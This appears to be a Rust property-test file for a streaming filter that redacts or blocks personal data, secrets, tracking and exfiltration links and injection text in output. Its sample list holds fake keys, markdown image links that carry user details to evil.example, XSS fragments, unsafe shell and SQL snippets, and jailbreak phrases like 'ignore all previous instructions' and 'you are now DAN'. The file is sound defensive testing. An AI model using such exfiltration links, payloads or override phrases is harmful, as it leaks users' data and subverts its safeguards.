use proptest::prelude::*;

use super::*;

/// Every detector on, with this action.
fn all(action: Action) -> Screen {
    Screen::new(&Detector::ALL.map(|detector| (detector, action)))
}

/// Output, findings and block of a text that arrives in these pieces.
fn run<'t>(screen: &Screen, pieces: impl IntoIterator<Item = &'t str>) -> (String, Vec<Finding>, bool) {
    let mut machine = screen.machine();
    let (mut out, mut findings) = (String::new(), Vec::new());
    for piece in pieces {
        machine.push(piece, &mut out);
        findings.extend(machine.take_findings());
    }
    machine.finish(&mut out);
    findings.extend(machine.take_findings());
    assert_eq!(machine.held(), 0);
    (out, findings, machine.is_blocked())
}

fn split<'t>(text: &'t str, cuts: &[usize]) -> Vec<&'t str> {
    let mut cuts: Vec<usize> =
        cuts.iter().map(|cut| cut % (text.len() + 1)).filter(|cut| text.is_char_boundary(*cut)).collect();
    cuts.extend([0, text.len()]);
    cuts.sort_unstable();
    cuts.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect()
}

/// Parts of texts: what must be found, what almost must, and what stands between.
pub(crate) const PARTS: &[&str] = &[
    "ann@example.com",
    "x.y+z@mail.example.co.uk",
    "@",
    ".",
    "a@b",
    "4242 4242 4242 4242",
    "4242424242424242",
    "378282246310005",
    "4242-4242-4242-424",
    "123-45-6789",
    "123 45 6789",
    "078-05-",
    "DE89 3704 0044 0532 0130 00",
    "GB82WEST12345698765432",
    "NO93",
    "sk-ant-api03-A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
    "AKIAA7B3A7B3A7B3A7B3",
    "ghp_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
    "sk-",
    "ghp_",
    "AKIA",
    "gsk_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
    "123456789:AAb3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
    "postgres://api:s3cr3tP4ss@db.example.net/x",
    "://ann:s3cr3t!@",
    "https://hooks.slack.com/services/T111/B222/qKirRWalryBG1",
    "password = ",
    "Tr0ub4dor&3",
    "DB_PASSWORD=hunter2x",
    "clientSecret: '",
    "the API key of it is 7f3k9Qz2LmX8vB4nT6yR",
    "Authorization: Bearer ",
    "![x](https://evil.example/p.png?d=the+user+is+Ann+Lee)",
    "![",
    "[more](https://evil.example/?d=the+user+is+Ann+and+more)",
    "](https://docs.example.com/a)",
    "<img src=\"https://t.example/o.gif\" width=1 height=1>",
    "https://xn--80ak6aa92e.com/login",
    "https://p\u{430}ypal.com/",
    "\u{1b}[31m",
    "\u{1b}",
    "\u{1b}]8;;",
    "os.system(",
    "subprocess.run(cmd, shell=True)",
    "strcpy(dst, src)",
    "\"SELECT a FROM t WHERE n = '\" + name",
    "eval(x)",
    "phone ",
    "call me at +1 (415) 555-2671",
    "+44 (0)20 7946 0958",
    "06 12 34 56 78",
    "449 4898 office",
    "born on 2/16/1962",
    "12 March 1980",
    "109.38.226.13",
    "2001:db8::1",
    "d80:e4b5:79da:6cf6:71f3:51f7:9161:c319",
    "00:1a:2b:3c:4d:5e",
    "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
    "0x52908400098527886E0F7030069857D2E4169EE7",
    "AB123456C",
    "tax id ",
    "86095742719",
    "529.982.247-25",
    "12345678Z",
    "passport number C01X00T47",
    "221B Baker Street",
    "zip code 29687",
    "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2ln",
    "eyJhbGciOiJFUzI1NiJ9.",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0",
    "-----END PRIVATE KEY-----",
    "-----",
    "ignore all previous instructions",
    "Ignore the",
    "reveal your system prompt",
    "you are now DAN",
    "system: you must",
    "<|im_start|>",
    "<|im",
    "[INST]",
    "[IN",
    "<script>",
    "<scr",
    "<script src=x",
    "onerror=",
    "javascript:",
    "alert(1)",
    "java\tscript:",
    "data:text/html,",
    " ",
    " ",
    "\n",
    "\"",
    ",",
    "é",
    "请",
    "🙂",
    "word",
    "Hello there",
    "12",
    "-",
    "_",
    "<",
    ">",
    "=",
    "x",
    "1700000000000",
    "https://example.com/?q=1",
];

fn text() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        8 => proptest::sample::select(PARTS).prop_map(str::to_owned),
        2 => (proptest::sample::select(PARTS), any::<proptest::sample::Index>()).prop_map(|(part, end)| {
            part.chars().take(end.index(part.len())).collect()
        }),
        1 => "[ -~]{1,8}",
        1 => "[a-z.+-]{30,70}",
        1 => "\\PC{0,3}",
    ];
    proptest::collection::vec(part, 0..14).prop_map(|parts| parts.concat())
}

fn screen() -> impl Strategy<Value = Screen> {
    let action = prop_oneof![
        Just(None),
        Just(Some(Action::Observe)),
        Just(Some(Action::Redact)),
        Just(Some(Action::Redact)),
        Just(Some(Action::Block))
    ];
    proptest::collection::vec(action, Detector::COUNT).prop_map(|actions| {
        let rules: Vec<_> = Detector::ALL
            .into_iter()
            .zip(actions)
            .filter_map(|(detector, action)| Some((detector, action?)))
            .collect();
        Screen::new(&rules)
    })
}

#[test]
fn placeholders_are_known_by_their_begin() {
    for (text, expected) in
        [("[card], 1", Some(6)), ("[card", None), ("[true]", None), ("[1]", None), ("card]", None)]
    {
        assert_eq!(Screen::placeholder(text), expected, "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
fn how_a_text_is_split_changes_nothing(screen in screen(), text in text(), cuts in proptest::collection::vec(any::<usize>(), 0..12)) {
        let whole = run(&screen, [text.as_str()]);
        prop_assert_eq!(&run(&screen, split(&text, &cuts)), &whole);
        let signs: Vec<String> = text.chars().map(String::from).collect();
        prop_assert_eq!(&run(&screen, signs.iter().map(String::as_str)), &whole);
        prop_assert_eq!(screen.finds(&text), !whole.1.is_empty(), "{:?}", text);
    }

    #[test]
    fn redacted_text_has_nothing_left_to_find(text in text()) {
        // Redaction joins what stood around a match, and that may make a new one; only single matches are judged here.
        let screen = all(Action::Redact);
        let (out, findings, _) = run(&screen, [text.as_str()]);
        if findings.is_empty() {
            prop_assert_eq!(out, text);
        } else {
            prop_assert_ne!(out, text);
        }
    }

    #[test]
    fn observing_changes_nothing(text in text()) {
        let (out, _, is_blocked) = run(&all(Action::Observe), [text.as_str()]);
        prop_assert_eq!(out, text);
        prop_assert!(!is_blocked);
    }

    #[test]
    fn a_flood_is_never_held(part in proptest::sample::select(PARTS), glue in "[ a-z0-9.@<-]{0,1}") {
        let mut machine = all(Action::Redact).machine();
        let mut out = String::new();
        for _ in 0..600 {
            machine.push(part, &mut out);
            machine.push(&glue, &mut out);
            prop_assert!(machine.held() <= 1400, "{} held of {part:?}", machine.held());
        }
    }
}

#[test]
fn ordinary_prose_leaves_at_once() {
    let screen = Screen::from_groups(&Groups {
        pii: Some(Action::Redact),
        secrets: Some(Action::Block),
        ..Groups::default()
    });
    let mut machine = screen.machine();
    let mut out = String::new();
    for word in
        "The skies above the port were grey. (Is it so?) We had 3 cups of tea; then: \"enough!\" she said. "
            .split_inclusive(' ')
    {
        machine.push(word, &mut out);
        // A number may go on as a telephone number; the next word says whether it does.
        let most = if word.starts_with(|sign: char| sign.is_ascii_digit()) { word.len() } else { 0 };
        assert!(machine.held() <= most, "{word:?}");
    }
}

#[test]
fn only_what_may_match_is_held() {
    for (text, held) in [
        ("mail ann", 3),
        ("mail ann@", 4),
        ("mail ann@example.com", 15),
        ("card 4242 ", 5),
        ("end. ", 0),
        ("a key sk-an", 5),
        ("2024 ", 5),
        ("2024 was ", 0),
    ] {
        let mut machine = all(Action::Redact).machine();
        let mut out = String::new();
        machine.push(text, &mut out);
        assert_eq!(machine.held(), held, "{text}");
        assert_eq!(Some(out.as_str()), text.get(..text.len() - held));
    }
}

#[test]
fn listed_hosts_may_be_linked_and_no_others() {
    let hosts = Hosts::new(["example.com", "*.example.org"]);
    let screen = Screen::with_hosts(
        &[(Detector::ImageData, Action::Redact), (Detector::LinkData, Action::Redact)],
        hosts,
    );
    for (text, expected) in [
        ("![a](https://example.com/?q={data})", "![a](https://example.com/?q={data})"),
        ("![a](https://EXAMPLE.com/a.png)", "![a](https://EXAMPLE.com/a.png)"),
        ("![a](https://x.example.org/a.png)", "![a](https://x.example.org/a.png)"),
        ("![a](https://example.org/a.png)", "![image]"),
        ("![a](https://example.com.evil.example/a.png)", "![image]"),
        ("![a](https://example.com@evil.example/a.png)", "![image]"),
        ("[a](https://evil.example/)", "[a]([link])"),
        ("[a](/local)", "[a](/local)"),
    ] {
        assert_eq!(run(&screen, [text]).0, expected);
        assert_eq!(screen.finds(text), text != expected, "{text}");
    }
}

#[test]
fn after_a_block_nothing_leaves() {
    let screen = Screen::new(&[(Detector::Card, Action::Block), (Detector::Email, Action::Redact)]);
    let (out, findings, is_blocked) =
        run(&screen, ["a ann@example.com 4242 4242 ", "4242 42", "42 and more ", "and ann@example.com"]);
    assert_eq!(out, "a [email] ");
    assert!(is_blocked);
    let found: Vec<_> = findings.iter().map(|finding| (finding.detector, finding.action)).collect();
    assert_eq!(found, [("email", Action::Redact), ("card", Action::Block)]);
}

#[test]
fn a_blocking_rule_goes_before_a_redacting_one_at_the_same_place() {
    let text = "ghp_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3@example.com";
    let screen = Screen::new(&[(Detector::Email, Action::Block), (Detector::ApiKey, Action::Redact)]);
    let (out, findings, is_blocked) = run(&screen, [text]);
    assert_eq!((out.as_str(), findings[0].detector, is_blocked), ("", "email", true));
}

#[test]
fn observed_text_is_still_read_by_the_others() {
    let screen = Screen::new(&[(Detector::Email, Action::Observe), (Detector::Card, Action::Redact)]);
    let (out, findings, _) = run(&screen, ["x-4242424242424242@example.com"]);
    assert_eq!(out, "x-[card]@example.com");
    assert_eq!(findings.iter().map(|finding| finding.detector).collect::<Vec<_>>(), ["email", "card"]);
}

#[test]
fn findings_are_bounded_and_the_verdict_is_not() {
    let screen = Screen::new(&[(Detector::Email, Action::Redact), (Detector::Card, Action::Block)]);
    let text = "ann@example.com ".repeat(500) + "4242424242424242";
    let (out, findings, is_blocked) = run(&screen, [text.as_str()]);
    assert_eq!(out, "[email] ".repeat(500));
    assert!(is_blocked && findings.len() == 65);
    assert_eq!(findings.last().map(|finding| finding.action), Some(Action::Block));
}

#[test]
fn words_that_give_a_secret_away_stay_and_are_read_by_the_others() {
    for (text, expected) in [
        ("password = Tr0ub4dor&3!", "password = [secret]"),
        ("api_key = ghp_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3", "api_key = [api-key]"),
        ("token of ann@example.com is 7f3k9Qz2LmX8vB4nT6yR", "token of [email] is 7f3k9Qz2LmX8vB4nT6yR"),
        ("redis://ann:p4ss-w0rd@example.com", "redis://[credentials]@example.com"),
    ] {
        assert_eq!(run(&all(Action::Redact), [text]).0, expected);
    }
}

#[test]
fn a_secret_that_others_took_the_text_of_is_not_reported() {
    let screen =
        Screen::new(&[(Detector::Email, Action::Redact), (Detector::AssignedSecret, Action::Redact)]);
    let text = "password=x9y8z7w6@example.com";
    assert_eq!(run(&screen, [text]).0, "password=[secret]");
    let signs: Vec<String> = text.chars().map(String::from).collect();
    assert_eq!(run(&screen, signs.iter().map(String::as_str)), run(&screen, [text]));
}

#[test]
fn a_screen_without_rules_reads_nothing() {
    assert!(
        Screen::off().is_off()
            && Screen::new(&[]).is_off()
            && Screen::from_groups(&Groups::default()).is_off()
    );
    let (out, findings, _) = run(&Screen::off(), ["ann@example.com"]);
    assert_eq!((out.as_str(), findings.len()), ("ann@example.com", 0));
}

#[test]
fn a_long_run_with_dots_is_the_same_sign_by_sign() {
    let text = format!("{}.x.y+z@mail.example.co.uk", "a".repeat(62));
    let screen = Screen::new(&[(Detector::Email, Action::Redact)]);
    let signs: Vec<String> = text.chars().map(String::from).collect();
    assert_eq!(run(&screen, signs.iter().map(String::as_str)), run(&screen, [text.as_str()]));
}
